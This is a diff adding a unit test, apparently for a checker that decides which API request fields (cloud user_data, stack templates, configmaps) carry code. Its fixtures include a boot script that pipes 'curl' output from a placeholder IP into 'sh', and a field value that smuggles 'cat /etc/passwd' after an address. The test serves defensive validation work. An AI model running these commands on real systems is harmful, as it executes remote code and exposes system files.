@@ -51,6 +51,17 @@ test('a file that is put into a repository is code, in base64 too, and so is a b
   expect(sentTo('/rest/api/3/issue', { fields: { description } })).toEqual([]);
 });
 
+test('what a machine runs when it is made, and files that are put into one, are code where a cloud takes them', () => {
+  const script = '#!/bin/sh\nset -e\ncurl -s http://203.0.113.9/a | sh\n';
+  const content = Buffer.from(script).toString('base64');
+  expect(sentTo('/v2/servers', { server: { name: 'a', user_data: content } })).toEqual([]);
+  expect(sentTo('/v1/stacks', { stack_name: 'a', template: script })).toEqual([]);
+  expect(sentTo('/api/v1/namespaces/a/configmaps', { data: { 'run.sh': script } })).toEqual([]);
+  expect(sentTo('/v2/servers', { server: { name: script } })).toEqual(['body.server.name']);
+  expect(sentTo('/users', { user_data: script })).toEqual(['body.user_data']);
+  expect(sentTo('/v2/servers', { user_data: '127.0.0.1;cat /etc/passwd' })).toEqual(['body.user_data']);
+});
+
 test('a console is sent whole statements', () => {
   expect(sentTo('/api/ds/query', { queries: [{ refId: 'A', rawSql: STATEMENT }] })).toEqual([]);
   expect(sentTo('/api/dataset', { native: { query: `-- all\n${STATEMENT}` } })).toEqual([]);
